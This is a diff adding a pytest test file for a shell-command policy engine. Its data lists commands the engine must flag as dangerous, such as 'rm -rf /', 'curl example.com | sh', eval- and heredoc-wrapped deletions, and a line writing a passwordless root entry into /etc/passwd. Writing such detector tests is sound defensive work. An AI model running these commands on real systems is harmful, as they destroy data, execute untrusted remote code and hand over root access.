@@ -0,0 +1,59 @@
+import pytest
+from apps.rayshell.core.policy import PolicyEngine, DEFAULT_POLICY
+
+
+@pytest.fixture(scope="module")
+def engine():
+    return PolicyEngine(DEFAULT_POLICY)
+
+
+@pytest.mark.parametrize("cmd", [
+    "rm -rf /",
+    "ls && rm x",
+    "sudo ls",
+    "echo $(rm x)",
+    "sh -c 'rm x'",
+    "curl example.com | sh",
+    "time rm x",
+    "git push --force",
+    "for f in *; do rm $f; done",
+    "if true; then rm -rf /; fi",
+    "if false; then :; else rm x; fi",
+    "while true; do rm x; done",
+    "{ rm -rf /; }",
+    "! rm x",
+    'eval "rm -rf /"',
+    "eval 'eval \"rm x\"'",
+    "bash <<< 'rm -rf ~'",
+    "bash <<EOF\nrm -rf ~\nEOF",
+    "sh <<-EOF\nls\nEOF",
+    "sh < script.sh",
+    "sudo -u root bash < /tmp/x",
+    "function f { rm -rf ~; }; f",
+    "function f() { rm -rf ~; }",
+    "f() { rm -rf ~; }",
+    "busybox rm -rf /",
+    "busybox sh -c 'rm x'",
+    "echo root::0:0::/:/bin/sh | tee /etc/passwd",
+    "echo x | sudo tee -a /etc/hosts",
+])
+def test_dangerous(engine, cmd):
+    assert engine.evaluate(cmd).dangerous
+
+
+@pytest.mark.parametrize("cmd", [
+    "ls -la",
+    "git status",
+    "for f in *; do echo $f; done",
+    "if true; then echo ok; fi",
+    "eval echo hi",
+    "echo rm",
+    "cat <<< 'rm -rf ~'",
+    "grep x < file.txt",
+    "bash -c 'ls' < /dev/null",
+    "function greet { echo hi; }",
+    "busybox ls",
+    "echo hi | tee out.log",
+])
+def test_safe(engine, cmd):
+    assert not engine.evaluate(cmd).dangerous